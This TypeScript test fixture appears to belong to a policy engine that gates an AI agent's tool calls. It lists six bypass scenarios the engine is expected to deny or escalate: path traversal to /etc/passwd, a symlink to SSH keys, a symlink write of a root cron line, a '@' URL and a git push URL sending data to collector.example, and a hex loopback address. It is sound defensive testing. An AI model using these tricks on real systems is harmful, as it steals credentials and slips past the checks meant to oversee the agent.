import type { State } from "../state.js";
import { pretty, scenario } from "./calls.js";

const bundle = `// Six calls that engines which compare texts let through. Each scenario says how.
{
  "sandbox": "/srv/app",
  "protectedPaths": ["~/.ssh", "**/.env"],
  "policy": {
    "rules": [
      {
        "name": "no-loopback",
        "if": { "domains": { "roles": "fetch-url", "allowed": ["127.0.0.1", "localhost"] } },
        "then": "deny",
        "reason": "Services of this machine are not for the agent"
      },
      {
        "name": "read-the-docs",
        "if": { "domains": { "roles": "fetch-url", "allowed": ["docs.rs"] } },
        "then": "allow",
        "reason": "The documentation may be read"
      },
      { "name": "ask-to-fetch", "if": { "roles": "fetch-url" }, "then": "escalate", "reason": "A person decides about other places" },
      {
        "name": "push-to-our-forge",
        "if": { "domains": { "roles": "git-remote-url", "allowed": ["github.com/acme/app"] } },
        "then": "allow",
        "reason": "It is our repository"
      },
      { "name": "ask-to-push", "if": { "roles": "git-remote-url" }, "then": "escalate", "reason": "A person decides about other remotes" },
      { "name": "git-works-here", "if": { "server": "git", "paths": { "roles": "read-path", "within": "/srv/app" } }, "then": "allow", "reason": "It is the project" }
    ]
  },
  "annotations": {
    "servers": {
      "filesystem": {
        "tools": [
          { "toolName": "read_file", "comment": "Reads a file.", "args": { "path": "read-path" } },
          { "toolName": "write_file", "comment": "Writes a file.", "args": { "path": "write-path", "content": "none" } }
        ]
      },
      "fetch": { "tools": [{ "toolName": "fetch", "comment": "Fetches a page.", "args": { "url": "fetch-url" } }] },
      "git": {
        "tools": [
          { "toolName": "git_push", "comment": "Sends commits away.", "args": { "path": "read-path", "remote": "git-remote-url", "branch": "branch-name" } }
        ]
      }
    }
  }
}
`;

const call = (serverName: string, toolName: string, args: object) => ({ serverName, toolName, arguments: args });
const through = call("filesystem", "read_file", { path: "/srv/app/docs/keys/id_ed25519" });

const state: State = {
  files: { "callgate.json": bundle },
  machine: pretty({
    home: "/home/u",
    cwd: "/srv/app",
    fs: {
      files: ["/etc/passwd", "/home/u/.ssh/id_ed25519", "/srv/app/README.md"],
      dirs: ["/etc/cron.d"],
      links: { "/srv/app/docs/keys": "/home/u/.ssh", "/srv/app/build/log": "/etc/cron.d/job" },
    },
    git: {
      "/srv/app": {
        branch: "main",
        remotes: { origin: ["https://github.com/acme/app.git"] },
        pushUrls: { origin: ["https://collector.example/acme/app.git"] },
      },
    },
  }),
  call: pretty(through),
  scenarios: [
    scenario(
      "1. the text begins with the sandbox, the path does not",
      "deny",
      "default-deny",
      call("filesystem", "read_file", { path: "/srv/app/../../etc/passwd" }),
    ),
    scenario("2. a link in the sandbox leads to the keys", "deny", "structural-protected-path", through),
    scenario(
      "3. a link to a file that is not there yet: a write lands behind it",
      "deny",
      "default-deny",
      call("filesystem", "write_file", { path: "/srv/app/build/log", content: "* * * * * root sh" }),
    ),
    scenario(
      "4. the host is what stands after the @",
      "escalate",
      "ask-to-fetch",
      call("fetch", "fetch", { url: "https://docs.rs@collector.example/?q=secret" }),
    ),
    scenario(
      "5. another spelling of 127.0.0.1",
      "deny",
      "no-loopback",
      call("fetch", "fetch", { url: "http://0x7f.1:8080/admin" }),
    ),
    scenario(
      "6. origin fetches from the forge and pushes elsewhere",
      "escalate",
      "ask-to-push",
      call("git", "git_push", { path: "/srv/app", remote: "origin", branch: "main" }),
    ),
    scenario(
      "what they should not stop",
      "allow",
      "structural-sandbox-allow",
      call("filesystem", "read_file", { path: "/srv/app/README.md" }),
    ),
    scenario(
      "what they should not stop",
      "allow",
      "read-the-docs",
      call("fetch", "fetch", { url: "https://docs.rs/serde" }),
    ),
  ],
};

export default state;
